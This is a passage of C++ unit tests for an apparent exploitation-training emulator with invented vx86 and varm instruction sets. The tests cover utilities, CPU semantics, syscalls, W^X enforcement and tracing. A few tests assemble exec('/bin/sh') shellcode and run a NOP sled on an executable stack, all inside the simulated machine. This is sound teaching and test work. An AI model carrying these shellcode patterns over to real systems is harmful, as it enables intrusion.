  EXPECT_EQ(r.ReadU8().value(), 0xCC);
  ASSERT_TRUE(r.Seek(0).ok());
  EXPECT_EQ(r.ReadU8().value(), 0xAA);
  EXPECT_FALSE(r.Seek(4).ok());
}

TEST(ByteReader, ReadBytesAndSkip) {
  Bytes data{1, 2, 3, 4, 5};
  ByteReader r(data);
  ASSERT_TRUE(r.Skip(1).ok());
  auto chunk = r.ReadBytes(3);
  ASSERT_TRUE(chunk.ok());
  EXPECT_EQ(chunk.value(), (Bytes{2, 3, 4}));
  EXPECT_FALSE(r.Skip(2).ok());
}

TEST(ByteWriter, RoundTripsThroughReader) {
  ByteWriter w;
  w.WriteU8(0xFF);
  w.WriteU16BE(0x1234);
  w.WriteU32LE(0xdeadbeef);
  w.WriteString("hi");
  ByteReader r(w.bytes());
  EXPECT_EQ(r.ReadU8().value(), 0xFF);
  EXPECT_EQ(r.ReadU16BE().value(), 0x1234);
  EXPECT_EQ(r.ReadU32LE().value(), 0xdeadbeefu);
  EXPECT_EQ(r.ReadBytes(2).value(), BytesOf("hi"));
}

TEST(ByteWriter, PatchU16BE) {
  ByteWriter w;
  w.WriteU16BE(0);
  w.WriteU8(0x55);
  ASSERT_TRUE(w.PatchU16BE(0, 0xABCD).ok());
  EXPECT_EQ(w.bytes()[0], 0xAB);
  EXPECT_EQ(w.bytes()[1], 0xCD);
  EXPECT_FALSE(w.PatchU16BE(2, 1).ok());  // would run past the end
}

TEST(Rng, DeterministicForSameSeed) {
  Rng a(123);
  Rng b(123);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.NextU64(), b.NextU64());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1);
  Rng b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += a.NextU64() == b.NextU64() ? 1 : 0;
  EXPECT_LT(same, 4);
}

TEST(Rng, NextBelowRespectsBound) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(rng.NextBelow(17), 17u);
  EXPECT_EQ(rng.NextBelow(0), 0u);
  EXPECT_EQ(rng.NextBelow(1), 0u);
}

TEST(Rng, NextInRangeInclusive) {
  Rng rng(9);
  bool saw_lo = false;
  bool saw_hi = false;
  for (int i = 0; i < 2000; ++i) {
    const std::uint64_t v = rng.NextInRange(3, 5);
    EXPECT_GE(v, 3u);
    EXPECT_LE(v, 5u);
    saw_lo |= v == 3;
    saw_hi |= v == 5;
  }
  EXPECT_TRUE(saw_lo);
  EXPECT_TRUE(saw_hi);
}

TEST(Rng, NextBoolExtremes) {
  Rng rng(11);
  for (int i = 0; i < 50; ++i) {
    EXPECT_FALSE(rng.NextBool(0.0));
    EXPECT_TRUE(rng.NextBool(1.0));
  }
}

TEST(Rng, NextBytesLengthAndVariety) {
  Rng rng(13);
  auto data = rng.NextBytes(1000);
  ASSERT_EQ(data.size(), 1000u);
  bool varied = false;
  for (std::size_t i = 1; i < data.size(); ++i) varied |= data[i] != data[0];
  EXPECT_TRUE(varied);
}

TEST(Rng, ForkIsIndependent) {
  Rng a(42);
  Rng child = a.Fork();
  EXPECT_NE(child.NextU64(), a.NextU64());
}

TEST(Rng, SplitDoesNotAdvanceParent) {
  Rng a(42);
  Rng b(42);
  (void)a.Split(0);
  (void)a.Split(7);
  // Parent streams stay identical whether or not Split was called.
  for (int i = 0; i < 32; ++i) EXPECT_EQ(a.NextU64(), b.NextU64());
}

TEST(Rng, SplitIsReproduciblePerStream) {
  // Worker i's stream depends only on (parent state, i) — not on which
  // other streams were derived, in what order, or how much they drew.
  Rng parent(1234);
  Rng first = parent.Split(3);
  Rng noise = parent.Split(9);
  for (int i = 0; i < 100; ++i) (void)noise.NextU64();
  Rng second = parent.Split(3);
  for (int i = 0; i < 64; ++i) EXPECT_EQ(first.NextU64(), second.NextU64());
}

TEST(Rng, SplitStreamsDiverge) {
  Rng parent(55);
  Rng s0 = parent.Split(0);
  Rng s1 = parent.Split(1);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += s0.NextU64() == s1.NextU64() ? 1 : 0;
  EXPECT_LT(same, 4);
}

TEST(Rng, SplitDiffersFromParentDraws) {
  Rng parent(77);
  Rng child = parent.Split(0);
  int same = 0;
  for (int i = 0; i < 64; ++i) same += child.NextU64() == parent.NextU64() ? 1 : 0;
  EXPECT_LT(same, 4);
}

TEST(Parallel, ResolveWorkerCountNeverReturnsZero) {
  EXPECT_GE(ResolveWorkerCount(0), 1u);  // 0 = "one per hardware core"
  EXPECT_EQ(ResolveWorkerCount(1), 1u);
  EXPECT_EQ(ResolveWorkerCount(7), 7u);
}

TEST(Parallel, ForVisitsEveryIndexExactlyOnce) {
  constexpr std::size_t kCount = 257;  // deliberately not a worker multiple
  std::vector<std::atomic<int>> visits(kCount);
  ParallelFor(kCount, 4, [&](std::size_t i) {
    visits[i].fetch_add(1, std::memory_order_relaxed);
  });
  for (std::size_t i = 0; i < kCount; ++i) {
    EXPECT_EQ(visits[i].load(), 1) << "index " << i;
  }
}

TEST(Parallel, ForWithOneWorkerRunsInlineAndInOrder) {
  const std::thread::id caller = std::this_thread::get_id();
  std::vector<std::size_t> order;
  ParallelFor(16, 1, [&](std::size_t i) {
    EXPECT_EQ(std::this_thread::get_id(), caller);
    order.push_back(i);
  });
  ASSERT_EQ(order.size(), 16u);
  for (std::size_t i = 0; i < order.size(); ++i) EXPECT_EQ(order[i], i);
}

TEST(Parallel, InvokeRunsAllBodiesConcurrently) {
  // Each body blocks until every body has started: only true all-at-once
  // execution (one thread per index, the property barrier-coupled fuzz
  // workers rely on) can finish — a work queue narrower than the count
  // would deadlock here instead.
  constexpr std::size_t kCount = 4;
  std::atomic<std::size_t> arrived{0};
  ParallelInvoke(kCount, [&](std::size_t) {
    arrived.fetch_add(1, std::memory_order_acq_rel);
    while (arrived.load(std::memory_order_acquire) < kCount) {
      std::this_thread::yield();
    }
  });
  EXPECT_EQ(arrived.load(), kCount);
}

TEST(HexDump, FormatsRows) {
  Bytes data = BytesOf("ABCDEFGHIJKLMNOPQR");  // 18 bytes -> 2 rows
  std::string dump = HexDump(data, 0x1000);
  EXPECT_NE(dump.find("00001000"), std::string::npos);
  EXPECT_NE(dump.find("00001010"), std::string::npos);
  EXPECT_NE(dump.find("|ABCDEFGHIJKLMNOP|"), std::string::npos);
  EXPECT_NE(dump.find("41 42 43"), std::string::npos);
}

TEST(HexDump, NonPrintableAsDots) {
  Bytes data{0x00, 0x1F, 0x41};
  std::string dump = HexDump(data);
  EXPECT_NE(dump.find("|..A|"), std::string::npos);
}

}  // namespace
}  // namespace connlab::util
