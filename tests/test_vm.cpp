// CPU interpreter tests: arithmetic, control flow, stack ops, syscalls,
// W^X fetch enforcement, host functions, breakpoints, step limits.
#include <gtest/gtest.h>

#include "src/isa/assembler.hpp"
#include "src/isa/varm.hpp"
#include "src/isa/vx86.hpp"
#include "src/vm/cpu.hpp"
#include "src/vm/superblock.hpp"
#include "src/vm/syscalls.hpp"

namespace connlab::vm {
namespace {

using isa::Arch;
namespace x = isa::vx86;
namespace v = isa::varm;

struct Machine {
  mem::AddressSpace space;
  std::unique_ptr<Cpu> cpu;
};

Machine MakeMachine(Arch arch, const util::Bytes& text,
                    mem::Perm stack_perm = mem::kPermRW) {
  Machine m;
  EXPECT_TRUE(m.space.Map(".text", 0x1000, 0x1000, mem::kPermRX).ok());
  EXPECT_TRUE(m.space.Map(".data", 0x4000, 0x1000, mem::kPermRW).ok());
  EXPECT_TRUE(m.space.Map("stack", 0x8000, 0x1000, stack_perm).ok());
  EXPECT_TRUE(m.space.DebugWrite(0x1000, text).ok());
  m.cpu = std::make_unique<Cpu>(arch, m.space);
  m.cpu->set_pc(0x1000);
  m.cpu->set_sp(0x9000);
  return m;
}

TEST(CpuVX86, ArithmeticAndFlags) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 40);
  x::EncAddImm(w, isa::kEAX, 2);
  x::EncCmpImm(w, isa::kEAX, 42);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 42u);
  EXPECT_TRUE(m.cpu->zf());
}

TEST(CpuVX86, SubXorMovReg) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 100);
  x::EncSubImm(w, isa::kEBX, 58);
  x::EncMovReg(w, isa::kECX, isa::kEBX);
  x::EncXorReg(w, isa::kEBX, isa::kEBX);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kECX), 42u);
  EXPECT_EQ(m.cpu->reg(isa::kEBX), 0u);
}

TEST(CpuVX86, PushPopAndMemory) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 0xABCD);
  x::EncPushReg(w, isa::kEAX);
  x::EncPopReg(w, isa::kEDX);
  x::EncMovImm(w, isa::kEDI, 0x4000);
  x::EncStore(w, isa::kEDX, isa::kEDI, 0x10);  // [edi+0x10] = edx
  x::EncLoad(w, isa::kESI, isa::kEDI, 0x10);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kEDX), 0xABCDu);
  EXPECT_EQ(m.cpu->reg(isa::kESI), 0xABCDu);
  EXPECT_EQ(m.cpu->sp(), 0x9000u);  // balanced
}

TEST(CpuVX86, CallRetRoundTrip) {
  isa::Assembler a(Arch::kVX86, 0x1000);
  a.CallLabel("fn");
  x::EncHlt(a.w());
  a.Label("fn");
  x::EncMovImm(a.w(), isa::kEAX, 7);
  x::EncRet(a.w());
  auto m = MakeMachine(Arch::kVX86, a.Finish().value());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 7u);
  EXPECT_EQ(m.cpu->sp(), 0x9000u);
}

TEST(CpuVX86, ConditionalJumps) {
  isa::Assembler a(Arch::kVX86, 0x1000);
  x::EncMovImm(a.w(), isa::kEAX, 5);
  x::EncCmpImm(a.w(), isa::kEAX, 5);
  a.JzLabel("taken");
  x::EncMovImm(a.w(), isa::kEBX, 1);  // skipped
  a.Label("taken");
  x::EncCmpImm(a.w(), isa::kEAX, 6);
  a.JnzLabel("also");
  x::EncMovImm(a.w(), isa::kECX, 1);  // skipped
  a.Label("also");
  x::EncHlt(a.w());
  auto m = MakeMachine(Arch::kVX86, a.Finish().value());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kEBX), 0u);
  EXPECT_EQ(m.cpu->reg(isa::kECX), 0u);
}

TEST(CpuVX86, JmpIndirectThroughMemory) {
  util::ByteWriter w;
  x::EncJmpInd(w, 0x4000);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  // Plant target pointing at an hlt we also plant.
  util::ByteWriter t;
  x::EncHlt(t);
  ASSERT_TRUE(m.space.DebugWrite(0x1800, t.bytes()).ok());
  ASSERT_TRUE(m.space.WriteU32(0x4000, 0x1800).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(stop.pc, 0x1800u);
}

TEST(CpuVX86, ExecSyscallSpawnsShell) {
  // Shellcode shape used by the code-injection exploit: point ebx at the
  // command string, eax = SYS_exec, syscall.
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 0x4000);
  x::EncMovImm(w, isa::kECX, 0);
  x::EncMovImm(w, isa::kEAX, static_cast<std::uint32_t>(Sys::kExec));
  x::EncSyscall(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  util::Bytes cmd = util::BytesOf("/bin/sh");
  cmd.push_back(0);
  ASSERT_TRUE(m.space.WriteBytes(0x4000, cmd).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kShellSpawned);
  ASSERT_EQ(m.cpu->events().size(), 1u);
  EXPECT_EQ(m.cpu->events()[0].kind, EventKind::kShellSpawned);
  EXPECT_NE(m.cpu->events()[0].text.find("root"), std::string::npos);
}

TEST(CpuVX86, ExitAndWriteSyscalls) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 1);       // fd
  x::EncMovImm(w, isa::kECX, 0x4000);  // buf
  x::EncMovImm(w, isa::kEDX, 2);       // len
  x::EncMovImm(w, isa::kEAX, static_cast<std::uint32_t>(Sys::kWrite));
  x::EncSyscall(w);
  x::EncMovImm(w, isa::kEBX, 3);
  x::EncMovImm(w, isa::kEAX, static_cast<std::uint32_t>(Sys::kExit));
  x::EncSyscall(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  ASSERT_TRUE(m.space.WriteBytes(0x4000, util::BytesOf("ok")).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kExited);
  EXPECT_EQ(stop.exit_code, 3u);
  ASSERT_EQ(m.cpu->events().size(), 2u);
  EXPECT_EQ(m.cpu->events()[0].kind, EventKind::kWrite);
}

TEST(CpuVX86, WxBlocksStackExecution) {
  util::ByteWriter w;
  x::EncJmp(w, 0x8100);  // jump into the stack
  // Stack contains valid code, but is rw- (W^X).
  auto m = MakeMachine(Arch::kVX86, w.bytes(), mem::kPermRW);
  util::ByteWriter payload;
  x::EncHlt(payload);
  ASSERT_TRUE(m.space.DebugWrite(0x8100, payload.bytes()).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kFault);
  ASSERT_TRUE(stop.fault.has_value());
  EXPECT_EQ(stop.fault->kind, mem::AccessKind::kFetch);
}

TEST(CpuVX86, ExecutableStackRunsShellcode) {
  util::ByteWriter w;
  x::EncJmp(w, 0x8100);
  auto m = MakeMachine(Arch::kVX86, w.bytes(), mem::kPermRWX);
  util::ByteWriter payload;
  for (int i = 0; i < 16; ++i) x::EncNop(payload);  // NOP sled
  x::EncHlt(payload);
  ASSERT_TRUE(m.space.DebugWrite(0x8100, payload.bytes()).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
}

TEST(CpuVX86, IllegalOpcodeFaults) {
  auto m = MakeMachine(Arch::kVX86, util::Bytes{0xFE});
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kFault);
}

TEST(CpuVX86, UnmappedFetchFaults) {
  auto m = MakeMachine(Arch::kVX86, util::Bytes{0x90});
  m.cpu->set_pc(0x7000);
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kFault);
}

TEST(CpuVX86, StepLimitStops) {
  isa::Assembler a(Arch::kVX86, 0x1000);
  a.Label("loop");
  a.JmpLabel("loop");
  auto m = MakeMachine(Arch::kVX86, a.Finish().value());
  auto stop = m.cpu->Run(50);
  EXPECT_EQ(stop.reason, StopReason::kStepLimit);
  EXPECT_EQ(stop.steps, 50u);
}

TEST(CpuVARM, MovwMovtBuilds32Bit) {
  util::ByteWriter w;
  v::EncMovImm32(w, isa::kR0, 0xDEADBEEF);
  v::EncHlt(w);
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kR0), 0xDEADBEEFu);
}

TEST(CpuVARM, PushPopDescendingOrder) {
  util::ByteWriter w;
  v::EncMovW(w, isa::kR0, 0x11);
  v::EncMovW(w, isa::kR1, 0x22);
  v::EncPush(w, v::Mask({isa::kR0, isa::kR1}));
  v::EncHlt(w);
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  m.cpu->Run(100);
  // Lowest register at lowest address.
  EXPECT_EQ(m.cpu->sp(), 0x9000u - 8);
  EXPECT_EQ(m.space.ReadU32(0x9000 - 8).value(), 0x11u);
  EXPECT_EQ(m.space.ReadU32(0x9000 - 4).value(), 0x22u);
}

TEST(CpuVARM, PopIntoPcTransfersControl) {
  util::ByteWriter w;
  v::EncPop(w, v::Mask({isa::kR4, isa::kPC}));
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  // Stack: r4 value then pc target (an hlt at 0x1800).
  util::ByteWriter t;
  v::EncHlt(t);
  ASSERT_TRUE(m.space.DebugWrite(0x1800, t.bytes()).ok());
  m.cpu->set_sp(0x8800);
  ASSERT_TRUE(m.space.WriteU32(0x8800, 0x99).ok());
  ASSERT_TRUE(m.space.WriteU32(0x8804, 0x1800).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(stop.pc, 0x1800u);
  EXPECT_EQ(m.cpu->reg(isa::kR4), 0x99u);
  EXPECT_EQ(m.cpu->sp(), 0x8808u);
}

TEST(CpuVARM, BlSetsLrAndBxReturns) {
  isa::Assembler a(Arch::kVARM, 0x1000);
  a.BlLabel("fn");
  v::EncHlt(a.w());
  a.Label("fn");
  v::EncMovW(a.w(), isa::kR0, 9);
  v::EncBx(a.w(), isa::kLR);
  auto m = MakeMachine(Arch::kVARM, a.Finish().value());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kR0), 9u);
}

TEST(CpuVARM, BlxBranchesThroughRegister) {
  util::ByteWriter w;
  v::EncMovImm32(w, isa::kR3, 0x1800);
  v::EncBlx(w, isa::kR3);
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  util::ByteWriter t;
  v::EncBx(t, isa::kLR);  // return to instruction after blx
  ASSERT_TRUE(m.space.DebugWrite(0x1800, t.bytes()).ok());
  util::ByteWriter after;
  v::EncHlt(after);
  ASSERT_TRUE(m.space.DebugWrite(0x100C, after.bytes()).ok());
  auto stop = m.cpu->Run(100);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(stop.pc, 0x100Cu);
}

TEST(CpuVARM, LdrLitLoadsFromPool) {
  isa::Assembler a(Arch::kVARM, 0x1000);
  a.LdrLitLabel(isa::kR5, "pool");
  v::EncHlt(a.w());
  a.Label("pool");
  a.Word32(0xFEEDC0DE);
  auto m = MakeMachine(Arch::kVARM, a.Finish().value());
  m.cpu->Run(10);
  EXPECT_EQ(m.cpu->reg(isa::kR5), 0xFEEDC0DEu);
}

TEST(CpuVARM, MvnNegates) {
  util::ByteWriter w;
  v::EncMovW(w, isa::kR1, 0x00FF);
  v::EncMvn(w, isa::kR0, isa::kR1);
  v::EncHlt(w);
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  m.cpu->Run(10);
  EXPECT_EQ(m.cpu->reg(isa::kR0), 0xFFFFFF00u);
}

TEST(CpuVARM, SyscallConventionUsesR7) {
  util::ByteWriter w;
  v::EncMovW(w, isa::kR0, 5);
  v::EncMovW(w, isa::kR7, static_cast<std::uint16_t>(Sys::kExit));
  v::EncSyscall(w);
  auto m = MakeMachine(Arch::kVARM, w.bytes());
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kExited);
  EXPECT_EQ(stop.exit_code, 5u);
}

TEST(CpuVARM, ConditionalBranches) {
  isa::Assembler a(Arch::kVARM, 0x1000);
  v::EncMovW(a.w(), isa::kR0, 1);
  v::EncCmpImm(a.w(), isa::kR0, 1);
  a.BeqLabel("skip");
  v::EncMovW(a.w(), isa::kR4, 0xBAD);
  a.Label("skip");
  v::EncCmpImm(a.w(), isa::kR0, 2);
  a.BneLabel("end");
  v::EncMovW(a.w(), isa::kR5, 0xBAD);
  a.Label("end");
  v::EncHlt(a.w());
  auto m = MakeMachine(Arch::kVARM, a.Finish().value());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kR4), 0u);
  EXPECT_EQ(m.cpu->reg(isa::kR5), 0u);
}

TEST(Cpu, HostFnInterceptsExecution) {
  auto m = MakeMachine(Arch::kVX86, util::Bytes{0x90});
  bool called = false;
  ASSERT_TRUE(m.cpu
                  ->RegisterHostFn(0x1000, "probe",
                                   [&called](Cpu& cpu) {
                                     called = true;
                                     cpu.RequestStop(StopReason::kHalted, "probe");
                                     return util::OkStatus();
                                   })
                  .ok());
  EXPECT_TRUE(m.cpu->IsHostFn(0x1000));
  EXPECT_EQ(m.cpu->HostFnName(0x1000), "probe");
  auto stop = m.cpu->Run(10);
  EXPECT_TRUE(called);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
}

TEST(Cpu, HostFnErrorBecomesFault) {
  auto m = MakeMachine(Arch::kVX86, util::Bytes{0x90});
  ASSERT_TRUE(m.cpu
                  ->RegisterHostFn(0x1000, "bad",
                                   [](Cpu&) {
                                     return util::PermissionDenied("simulated");
                                   })
                  .ok());
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kFault);
}

TEST(Cpu, DuplicateHostFnRejected) {
  auto m = MakeMachine(Arch::kVX86, util::Bytes{0x90});
  auto ok = [](Cpu&) { return util::OkStatus(); };
  ASSERT_TRUE(m.cpu->RegisterHostFn(0x1000, "a", ok).ok());
  EXPECT_FALSE(m.cpu->RegisterHostFn(0x1000, "b", ok).ok());
}

TEST(Cpu, BreakpointStopsAndResumes) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 1);
  x::EncMovImm(w, isa::kEBX, 2);
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  m.cpu->AddBreakpoint(0x1006);  // second instruction
  auto stop1 = m.cpu->Run(100);
  EXPECT_EQ(stop1.reason, StopReason::kBreakpoint);
  EXPECT_EQ(m.cpu->pc(), 0x1006u);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 1u);
  EXPECT_EQ(m.cpu->reg(isa::kEBX), 0u);
  m.cpu->ClearStop();
  auto stop2 = m.cpu->Run(100);
  EXPECT_EQ(stop2.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEBX), 2u);
}

TEST(Cpu, RegistersStringMentionsAllRegisters) {
  auto m = MakeMachine(Arch::kVARM, util::Bytes{});
  const std::string s = m.cpu->RegistersString();
  EXPECT_NE(s.find("r0="), std::string::npos);
  EXPECT_NE(s.find("lr="), std::string::npos);
  EXPECT_NE(s.find("pc="), std::string::npos);
}

TEST(Cpu, StackOverflowOffMappingFaults) {
  util::ByteWriter w;
  x::EncPushReg(w, isa::kEAX);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  m.cpu->set_sp(0x8000);  // at the bottom of the stack segment
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kFault);
}

}  // namespace
}  // namespace connlab::vm

namespace connlab::vm {
namespace {

TEST(CpuTrace, DisabledByDefault) {
  util::ByteWriter w;
  isa::vx86::EncNop(w);
  isa::vx86::EncHlt(w);
  auto m = MakeMachine(isa::Arch::kVX86, w.bytes());
  m.cpu->Run(10);
  EXPECT_TRUE(m.cpu->trace().empty());
}

TEST(CpuTrace, RecordsInstructionsAndHostFns) {
  util::ByteWriter w;
  isa::vx86::EncMovImm(w, isa::kEAX, 7);
  isa::vx86::EncJmp(w, 0x1800);
  auto m = MakeMachine(isa::Arch::kVX86, w.bytes());
  ASSERT_TRUE(m.cpu
                  ->RegisterHostFn(0x1800, "stopper",
                                   [](Cpu& cpu) {
                                     cpu.RequestStop(StopReason::kHalted, "x");
                                     return util::OkStatus();
                                   })
                  .ok());
  m.cpu->set_trace_limit(16);
  m.cpu->Run(10);
  ASSERT_EQ(m.cpu->trace().size(), 3u);
  EXPECT_EQ(m.cpu->trace()[0].text, "mov eax, #0x7");
  EXPECT_EQ(m.cpu->trace()[2].text, "<host: stopper>");
  const std::string rendered = m.cpu->TraceString();
  EXPECT_NE(rendered.find("0x00001000:  mov eax, #0x7"), std::string::npos);
}

TEST(CpuTrace, RingBufferKeepsOnlyLastN) {
  isa::Assembler a(isa::Arch::kVX86, 0x1000);
  for (int i = 0; i < 20; ++i) isa::vx86::EncNop(a.w());
  isa::vx86::EncHlt(a.w());
  auto m = MakeMachine(isa::Arch::kVX86, a.Finish().value());
  m.cpu->set_trace_limit(5);
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->trace().size(), 5u);
  EXPECT_EQ(m.cpu->trace().back().text, "hlt");
  // Disabling clears.
  m.cpu->set_trace_limit(0);
  EXPECT_TRUE(m.cpu->trace().empty());
}

}  // namespace
}  // namespace connlab::vm

namespace connlab::vm {
namespace {

TEST(CpuByteOps, LoadZeroExtendsStoreTruncates) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEAX, 0xFFFFFFFF);
  x::EncMovImm(w, isa::kEDI, 0x4000);
  x::EncStoreByte(w, isa::kEAX, isa::kEDI, 0);   // writes 0xFF only
  x::EncMovImm(w, isa::kEBX, 0);
  x::EncLoadByte(w, isa::kEBX, isa::kEDI, 0);    // reads back 0x000000FF
  x::EncHlt(w);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  ASSERT_TRUE(m.space.WriteU32(0x4000, 0x11223344).ok());
  m.cpu->Run(100);
  EXPECT_EQ(m.cpu->reg(isa::kEBX), 0xFFu);
  // Only the low byte of the word changed.
  EXPECT_EQ(m.space.ReadU32(0x4000).value(), 0x112233FFu);
}

TEST(CpuByteOps, VarmByteCopyLoop) {
  // The copy_label shape: a byte-granular guest memcpy.
  isa::Assembler a(Arch::kVARM, 0x1000);
  a.Label("loop");
  v::EncCmpImm(a.w(), isa::kR2, 0);
  a.BeqLabel("done");
  v::EncLdrb(a.w(), isa::kR3, isa::kR1, 0);
  v::EncStrb(a.w(), isa::kR3, isa::kR0, 0);
  v::EncAddImm(a.w(), isa::kR0, isa::kR0, 1);
  v::EncAddImm(a.w(), isa::kR1, isa::kR1, 1);
  v::EncSubImm(a.w(), isa::kR2, isa::kR2, 1);
  a.BLabel("loop");
  a.Label("done");
  v::EncHlt(a.w());
  auto m = MakeMachine(Arch::kVARM, a.Finish().value());
  ASSERT_TRUE(m.space.WriteBytes(0x4000, util::BytesOf("HELLO")).ok());
  m.cpu->set_reg(isa::kR0, 0x4100);
  m.cpu->set_reg(isa::kR1, 0x4000);
  m.cpu->set_reg(isa::kR2, 5);
  auto stop = m.cpu->Run(1000);
  EXPECT_EQ(stop.reason, StopReason::kHalted);
  EXPECT_EQ(m.space.ReadBytes(0x4100, 5).value(), util::BytesOf("HELLO"));
}

TEST(CpuByteOps, ByteStoreToReadOnlyFaults) {
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEDI, 0x1000);  // .text
  x::EncStoreByte(w, isa::kEAX, isa::kEDI, 0);
  auto m = MakeMachine(Arch::kVX86, w.bytes());
  auto stop = m.cpu->Run(10);
  EXPECT_EQ(stop.reason, StopReason::kFault);
}

// --- Predecode cache: self-modifying code must never run stale decodes ----

/// Guest stores rewrite a stack stub between two executions of the same pc
/// (W^X off, stack RWX). The first run primes the predecode cache with the
/// old stub; the stores bump the stack segment's write generation, so the
/// second run must decode — and execute — the new bytes.
TEST(CpuPredecode, GuestStoresInvalidateStackDecodes) {
  util::ByteWriter stub1;
  x::EncMovImm(stub1, isa::kEAX, 1);
  x::EncHlt(stub1);
  util::ByteWriter stub2w;
  x::EncMovImm(stub2w, isa::kEAX, 2);
  x::EncHlt(stub2w);
  util::Bytes stub2 = stub2w.bytes();
  while (stub2.size() % 4 != 0) stub2.push_back(0);

  // .text program: store the new stub over 0x8000 word by word, then jump
  // into it.
  util::ByteWriter w;
  x::EncMovImm(w, isa::kEBX, 0x8000);
  for (std::size_t i = 0; i < stub2.size(); i += 4) {
    const std::uint32_t word = static_cast<std::uint32_t>(stub2[i]) |
                               (static_cast<std::uint32_t>(stub2[i + 1]) << 8) |
                               (static_cast<std::uint32_t>(stub2[i + 2]) << 16) |
                               (static_cast<std::uint32_t>(stub2[i + 3]) << 24);
    x::EncMovImm(w, isa::kEAX, word);
    x::EncStore(w, isa::kEAX, isa::kEBX, static_cast<std::uint32_t>(i));
  }
  x::EncJmp(w, 0x8000);

  auto m = MakeMachine(Arch::kVX86, w.bytes(), mem::kPermRWX);
  ASSERT_TRUE(m.cpu->predecode_enabled());
  ASSERT_TRUE(m.space.DebugWrite(0x8000, stub1.bytes()).ok());

  m.cpu->set_pc(0x8000);
  auto first = m.cpu->Run(100);
  EXPECT_EQ(first.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 1u);

  m.cpu->set_pc(0x1000);
  auto second = m.cpu->Run(100);
  EXPECT_EQ(second.reason, StopReason::kHalted);
  EXPECT_EQ(m.cpu->reg(isa::kEAX), 2u);
}

/// Same shape on VARM (fixed 4-byte instructions): the heap-ish .data
/// segment is made executable, a stub runs, the guest overwrites it, and
/// the rewrite must be honoured on re-entry.
TEST(CpuPredecode, GuestStoresInvalidateVarmDecodes) {
  util::ByteWriter stub1;
  v::EncMovW(stub1, 0, 7);
  v::EncHlt(stub1);
  util::ByteWriter stub2w;
  v::EncMovW(stub2w, 0, 9);
  v::EncHlt(stub2w);
  const util::Bytes stub2 = stub2w.bytes();
  ASSERT_EQ(stub2.size() % 4, 0u);

  util::ByteWriter w;
  v::EncMovImm32(w, 1, 0x4000);
  for (std::size_t i = 0; i < stub2.size(); i += 4) {
    const std::uint32_t word = static_cast<std::uint32_t>(stub2[i]) |
                               (static_cast<std::uint32_t>(stub2[i + 1]) << 8) |
                               (static_cast<std::uint32_t>(stub2[i + 2]) << 16) |
                               (static_cast<std::uint32_t>(stub2[i + 3]) << 24);
    v::EncMovImm32(w, 0, word);
    v::EncStr(w, 0, 1, static_cast<std::uint8_t>(i));
  }
  v::EncHlt(w);

  auto m = MakeMachine(Arch::kVARM, w.bytes());
  ASSERT_TRUE(m.space.Protect(".data", mem::kPermRWX).ok());
  ASSERT_TRUE(m.space.DebugWrite(0x4000, stub1.bytes()).ok());

